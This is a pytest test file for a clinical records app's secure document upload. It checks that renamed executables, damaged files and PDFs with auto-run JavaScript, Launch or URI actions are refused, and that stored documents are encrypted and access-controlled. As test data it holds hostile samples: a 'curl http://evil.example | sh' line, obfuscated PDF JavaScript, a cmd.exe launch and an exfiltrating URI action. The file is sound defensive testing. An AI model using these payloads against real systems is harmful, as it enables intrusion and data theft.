"""Uploads: the type comes from the content's bytes; programs renamed as documents, files
over the limit, broken PDFs and PDFs with active content are refused with a clear message
and nothing is stored; PDFs and images are kept sealed with the patient's data key, bound to
their row, and shown inline with a sandbox and no sniffing."""

import re
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client, override_settings
from django.urls import reverse

from carnet.audit.models import AuditEntry
from carnet.clinical.contents import check_pdf, sniff
from carnet.clinical.documents import add_document
from carnet.clinical.models import Document, DocumentKind
from carnet.guard.policy import Role

from .clinical_helpers import as_actor, client_of, consultation, member, pdf, png

pytestmark = pytest.mark.django_db


@pytest.fixture
def doctor(establishment):
    return member(Role.PRACTITIONER, establishment, first_name="Hélène", last_name="Garnier")


@pytest.fixture
def encounter(doctor, patient):
    return consultation(doctor, patient)


def _upload(client, patient, encounter, content, name="compte-rendu.pdf", **fields):
    data = {
        "encounter": str(encounter.pk),
        "title": "Compte rendu d'hospitalisation",
        "category": "",
        **fields,
        "file": SimpleUploadedFile(name, content, content_type="application/pdf"),
    }
    return client.post(
        reverse("web:chart_document_add", args=[patient]), data, HTTP_ACCEPT_LANGUAGE="en"
    )


REFUSED = [
    ("setup.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "program"),
    ("scan.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "program"),
    ("bilan.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n", "program"),
    ("lettre.pdf", b"PK\x03\x04" + b"\x00" * 100, "archive"),
    ("page.pdf", b"<html><script>alert(1)</script></html>", "PDF documents and PNG or JPEG"),
    ("cut.pdf", pdf()[:-40], "damaged"),
    ("fake.pdf", b"%PDF-1.4\nnothing here", "damaged"),
    (
        "macro.pdf",
        pdf(extra_catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "active content (JavaScript)",
    ),
    (
        "hidden.pdf",
        pdf(extra_catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "JavaScript",
    ),
    ("launch.pdf", pdf(extra_catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "launches"),
    ("png.pdf", png()[:-12], "damaged"),
]


@pytest.mark.parametrize(("name", "content", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_refused_uploads_say_why_and_store_nothing(
    doctor, patient, encounter, name, content, message
):
    response = _upload(client_of(doctor), patient, encounter, content, name=name)
    assert response.status_code == 400
    errors = " ".join(response.context["document_form"].errors["file"])
    assert message in errors
    assert not Document.objects.exists()


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    hidden = zlib.compress(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(hidden) + hidden
    with pytest.raises(ValidationError) as refused:
        check_pdf(pdf(extra_objects=[stream + b"\nendstream"]))
    assert "JavaScript" in str(refused.value)


def test_a_pdf_that_opens_an_address_by_itself_is_refused():
    """/OpenAction with a URI, written inline, or in an indirect object, or behind a /Next
    after a harmless GoTo; and additional actions on the document or a page."""
    uri = b"<< /S /URI /URI (http://evil.example/collect?who=me) >>"
    goto = b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>"
    for document in (
        pdf(extra_catalog=b"/OpenAction " + uri),
        pdf(extra_catalog=b"/OpenAction 6 0 R", extra_objects=[uri]),
        pdf(extra_catalog=b"/OpenAction " + goto, extra_objects=[uri]),
        pdf(extra_catalog=b"/AA << /WC " + uri + b" >>"),
    ):
        with pytest.raises(ValidationError) as refused:
            check_pdf(document)
        assert "active content" in str(refused.value)


def test_an_ordinary_pdf_with_an_opening_view_and_links_is_accepted():
    """What word processors write: open at the first page, fit to the window, and links the
    reader may choose to follow."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://ansm.sante.fr/) >> >>"
    document = pdf(extra_catalog=b"/OpenAction [3 0 R /Fit]", extra_objects=[link])
    assert sniff(document) == DocumentKind.PDF


def test_an_encrypted_pdf_cannot_be_checked_so_it_is_refused():
    encrypted = pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard >>")
    with pytest.raises(ValidationError) as refused:
        sniff(encrypted)
    assert "password" in str(refused.value)


def test_the_name_and_the_browsers_content_type_are_ignored(doctor, patient, encounter):
    response = _upload(client_of(doctor), patient, encounter, png(), name="rapport.pdf")
    assert response.status_code == 302
    assert Document.objects.get().kind == "image/png"


@override_settings(CARNET_DOCUMENT_MAX_BYTES=4096)
def test_an_oversized_file_is_refused_before_it_is_all_read(
    doctor, patient, encounter, monkeypatch
):
    big = pdf("x" * 6000)
    checked = []
    monkeypatch.setattr("carnet.clinical.documents.sniff", checked.append)
    response = _upload(client_of(doctor), patient, encounter, big)
    assert response.status_code == 400
    assert "larger than" in " ".join(response.context["document_form"].errors["file"])
    assert checked == []  # stopped by the upload handler, never kept whole
    assert not Document.objects.exists()
    # Several files, each under the limit, add up.
    halves = {
        "encounter": str(encounter.pk),
        "title": "Deux moitiés",
        "file": SimpleUploadedFile("a.pdf", b"%PDF-" + b"a" * 3000),
        "extra": SimpleUploadedFile("b.pdf", b"%PDF-" + b"b" * 3000),
    }
    split = client_of(doctor).post(reverse("web:chart_document_add", args=[patient]), halves)
    assert split.status_code == 400 and checked == []
    monkeypatch.undo()
    # The service refuses it too, whoever calls it.
    with pytest.raises(ValidationError):
        as_actor(
            doctor,
            "tests.upload",
            lambda actor: add_document(
                actor=actor,
                patient_id=patient,
                encounter_id=encounter.pk,
                title="Gros",
                content=big,
            ),
        )


def test_the_upload_checks_the_csrf_token(doctor, patient, encounter):
    signed_in = client_of(doctor)
    forged = Client(enforce_csrf_checks=True)
    forged.cookies = signed_in.cookies
    response = _upload(forged, patient, encounter, pdf())
    assert response.status_code == 403 and b"CSRF" in response.content
    assert not Document.objects.exists()
    assert _upload(signed_in, patient, encounter, pdf()).status_code == 302


def test_a_pdf_and_a_png_are_stored_sealed_and_shown_inline(doctor, patient, encounter):
    client = client_of(doctor)
    assert _upload(client, patient, encounter, pdf("Scanner thoracique normal")).status_code == 302
    assert (
        _upload(client, patient, encounter, png(), name="plaie.png", title="Plaie J3").status_code
        == 302
    )
    pdf_doc = Document.objects.get(kind="application/pdf")
    png_doc = Document.objects.get(kind="image/png")
    assert b"Scanner thoracique" not in bytes(pdf_doc.content)
    assert b"IHDR" not in bytes(png_doc.content)
    assert b"Plaie" not in bytes(png_doc.title_sealed)

    response = client.get(reverse("web:chart_document", args=[patient, pdf_doc.pk]))
    assert response.status_code == 200
    assert response.content == pdf("Scanner thoracique normal")
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("inline")
    assert "Scanner" not in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert "script-src" not in response["Content-Security-Policy"]
    entry = AuditEntry.objects.get(request_id=response["X-Request-ID"])
    assert entry.action == "clinical.document.view" and patient in entry.patients

    image = client.get(reverse("web:chart_document", args=[patient, png_doc.pk]))
    assert image["Content-Type"] == "image/png" and image.content == png()
    chart = client.get(reverse("web:chart", args=[patient])).content.decode()
    assert f'<img src="{reverse("web:chart_document", args=[patient, png_doc.pk])}"' in chart


def test_sealed_content_moved_to_another_document_does_not_open(doctor, patient, encounter):
    client = client_of(doctor)
    _upload(client, patient, encounter, pdf("Premier"), title="Un")
    _upload(client, patient, encounter, pdf("Second"), title="Deux")
    first, second = Document.objects.order_by("uploaded_at")
    Document.objects.filter(pk=second.pk).update(content=bytes(first.content))
    response = client.get(reverse("web:chart_document", args=[patient, second.pk]))
    assert response.status_code == 403
    assert b"Premier" not in response.content
    entry = AuditEntry.objects.get(request_id=response["X-Request-ID"])
    assert entry.outcome == "refused" and "altered or moved" in entry.reason


def test_a_document_is_reached_only_through_its_own_patient(
    doctor, patient, encounter, establishment
):
    from .factories import make_patient

    _upload(client_of(doctor), patient, encounter, pdf("Confidentiel"))
    document = Document.objects.get()
    other = make_patient(establishment, birth_surname="AUTRE")
    response = client_of(doctor).get(reverse("web:chart_document", args=[other, document.pk]))
    assert response.status_code == 404
    assert b"Confidentiel" not in response.content


@pytest.mark.parametrize(
    "role", [Role.SECRETARY, Role.LAB_TECHNICIAN, Role.ADMINISTRATOR, Role.SECURITY_OFFICER]
)
def test_roles_without_clinical_access_neither_upload_nor_read(
    doctor, patient, encounter, establishment, role
):
    _upload(client_of(doctor), patient, encounter, pdf("Confidentiel"))
    document = Document.objects.get()
    client = client_of(member(role, establishment))
    read = client.get(reverse("web:chart_document", args=[patient, document.pk]))
    assert read.status_code == 403 and b"Confidentiel" not in read.content
    assert _upload(client, patient, encounter, pdf()).status_code == 403
    assert Document.objects.count() == 1


def test_no_hash_of_the_plaintext_is_kept():
    columns = [f.column for f in Document._meta.get_fields() if hasattr(f, "column")]
    assert not [c for c in columns if re.search("sha|hash|digest", c)]


@pytest.mark.django_db(transaction=True)
def test_the_raw_database_holds_no_document_in_clear(establishment):
    from .factories import make_patient
    from .test_raw_database import _raw_dump

    patient = make_patient(establishment)
    doctor = member(Role.PRACTITIONER, establishment)
    encounter = consultation(doctor, patient)
    marker = "ZQXJ-compte-rendu-secret-4471"
    client = client_of(doctor)
    _upload(client, patient, encounter, pdf(marker), title=f"Titre {marker}")
    _upload(client, patient, encounter, png(comment=marker), name="x.png", title="Image")
    assert Document.objects.count() == 2
    connection.close()
    dump = _raw_dump()
    assert marker.encode() not in dump
    assert b"%PDF-1.4" not in dump and b"\x89PNG" not in dump


def test_a_merge_moves_documents_and_notes_to_the_survivor_still_readable(
    doctor, establishment, patient, encounter
):
    from carnet.clinical.notes import write_note
    from carnet.patients.merges import merge_identities

    from .clinical_helpers import in_care
    from .factories import make_patient

    client = client_of(doctor)
    _upload(client, patient, encounter, pdf("Echographie abdominale"), title="Echo")
    as_actor(
        doctor,
        "tests.note",
        lambda actor: write_note(
            actor=actor, patient_id=patient, encounter_id=encounter.pk, text="Foie stéatosique"
        ),
    )
    survivor = make_patient(establishment, birth_surname="DURAND", first_names="Marie")
    in_care(survivor, doctor)
    secretary = member(Role.SECRETARY, establishment)
    as_actor(
        secretary,
        "tests.merge",
        lambda actor: merge_identities(
            actor=actor, survivor_id=survivor, merged_id=patient, reason="Doublon à l'accueil"
        ),
    )
    document = Document.objects.get()
    assert str(document.patient_id) == survivor
    chart = client.get(reverse("web:chart", args=[survivor])).content.decode()
    assert "Foie stéatosique" in chart and "Echo" in chart
    content = client.get(reverse("web:chart_document", args=[survivor, document.pk]))
    assert content.status_code == 200 and content.content == pdf("Echographie abdominale")
